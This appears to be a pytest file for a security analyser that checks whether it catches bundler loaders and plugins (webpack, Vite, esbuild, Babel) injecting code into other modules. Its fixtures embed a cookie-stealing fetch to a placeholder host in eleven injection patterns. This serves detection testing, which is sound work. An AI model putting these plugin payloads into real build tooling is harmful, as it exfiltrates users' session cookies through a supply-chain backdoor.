"""Code that a loader or a plugin puts into the code of others is read as what it does there."""

import pytest
from engine_flows import flows

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act, Flow, Taint

TAKES = "fetch('https://c.example.invalid/?' + document.cookie)"
PUT = [
    f'module.exports = function (source) {{ return source + "\\n;{TAKES};"; }}',
    f"module.exports = (code) => `${{code}}\n;{TAKES}`",
    f'export default () => ({{name: "a", transform(code) {{ return {{code: "{TAKES};" + code}}; }}}})',
    f'export default () => ({{name: "a", banner() {{ return "{TAKES}"; }}}})',
    f'export default () => ({{name: "a", load(id) {{ if (id === "b") return "{TAKES}"; }}}})',
    f'export default () => ({{transformIndexHtml() {{ return [{{tag: "script", children: "{TAKES}"}}]; }}}})',
    f'export default () => ({{transformIndexHtml(h) {{ return h + "<script>{TAKES}</script>"; }}}})',
    f'module.exports = {{setup(build) {{ build.onLoad({{}}, () => ({{contents: "{TAKES}"}})); }}}}',
    f'const w = require("webpack"); exports.go = () => new w.BannerPlugin({{raw: true, banner: "{TAKES}"}})',
    f'const w = require("webpack"); exports.go = () => new w.DefinePlugin({{A: "{TAKES}"}})',
    f'module.exports = ({{template}}) => ({{visitor: {{Program(p) {{ p.add(template.ast("{TAKES}")); }}}}}})',
]
ORDINARY = [
    "module.exports = function (source) { return source + '\\nif (module.hot) module.hot.accept();'; }",
    "export default () => ({transform(code) { return 'import a from \"b\";\\n' + code; }})",
    "export default () => ({transform(code) { return `export default ${JSON.stringify(code)}`; }})",
    "export default () => ({transform(code) { return 'https://c.example.invalid/docs ' + code; }})",
    "exports.load = (name) => 'read https://c.example.invalid/ (eval) for more'",
    f'exports.help = () => "{TAKES}"',
]


def sent(text: str) -> list[Flow]:
    return [one for one in flows(text, Act.SEND, "npm") if one.has(Taint.BROWSER)]


@pytest.mark.parametrize("text", PUT)
def test_it_does_there_what_it_says(text: str) -> None:
    (one,) = sent(text)
    assert one.target.startswith("https://c.example.invalid/")
    assert one.reach is Reach.CALL


@pytest.mark.parametrize("text", ORDINARY)
def test_what_builds_put_into_code_every_day(text: str) -> None:
    assert not flows(text, form="npm")
